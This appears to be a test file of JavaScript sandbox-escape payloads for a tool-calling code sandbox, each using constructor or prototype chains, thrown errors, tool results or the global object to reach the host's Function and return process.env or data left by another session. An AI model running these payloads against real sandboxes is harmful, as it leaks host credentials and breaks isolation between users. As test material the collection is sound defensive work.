// Constructor and prototype chains: from anything in reach to the host's Function, and by it to the host.

// --- an object literal's constructor's constructor
return {}.constructor.constructor("return process")().env;

// --- a function's constructor
return (function () {}).constructor("return process")().env;

// --- the constructor of callTool
return callTool.constructor("return process")().env;

// --- the constructor of console.log
return console.log.constructor("return process")().env;

// --- the constructor of an array's method
return [].map.constructor("return process")().env;

// --- the constructor of a string's constructor
return "".constructor.constructor("return process")().env;

// --- the constructor of a regular expression's method
return /x/.exec.constructor("return process")().env;

// --- the constructor of a symbol's constructor
return Symbol.iterator.constructor.constructor("return process")().env;

// --- the constructor of an error that the engine threw
try {
  null.x;
} catch (error) {
  return error.constructor.constructor("return process")().env;
}

// --- the constructor of an error that a tool threw
try {
  await callTool("fail", {});
} catch (error) {
  return error.constructor.constructor("return process")().env;
}

// --- the constructor of the promise of a call
return callTool("whoami", {}).constructor.constructor("return process")().env;

// --- the constructor of a tool's result
return (await callTool("config:get", {})).constructor.constructor("return process")().env;

// --- the constructor of tools
return tools.config.constructor("return process")().env;

// --- up the prototypes of a result to the top
let top = await callTool("config:get", {});
while (Object.getPrototypeOf(top)) top = Object.getPrototypeOf(top);
return top.constructor.constructor("return process")().env;

// --- a class that extends Function
class Maker extends Function {}
return new Maker("return process")().env;

// --- the prototype of the prototype of an iterator
const up = Object.getPrototypeOf(Object.getPrototypeOf([][Symbol.iterator]()));
return up[Symbol.iterator].constructor("return process")().env;

// --- the prototype of an async function
const AsyncFunction = Object.getPrototypeOf(async () => {}).constructor;
return (await AsyncFunction("return process")()).env;

// --- a bound function
return parallel.bind(null).constructor("return process")().env;

// --- the arguments object
return (function () {
  return arguments.constructor.constructor("return process")().env;
})();

// --- the getter of __proto__
const getter = Object.getOwnPropertyDescriptor(Object.prototype, "__proto__").get;
return getter.call(callTool).constructor("return process")().env;

// --- this of a plain function is the host's global object
return (function () {
  return this;
})().process.env;

// --- what another session left in the global object
const found = [];
for (const key of Object.getOwnPropertyNames(globalThis)) {
  if (typeof globalThis[key] === "string") found.push(globalThis[key]);
}
return found;

// --- what another session left on a prototype
return Array.prototype.ofNeighbour.secret;

// --- what another session last matched
return [RegExp.$1, RegExp.input, RegExp["$&"]];

// --- the process by name
return globalThis.process.env;
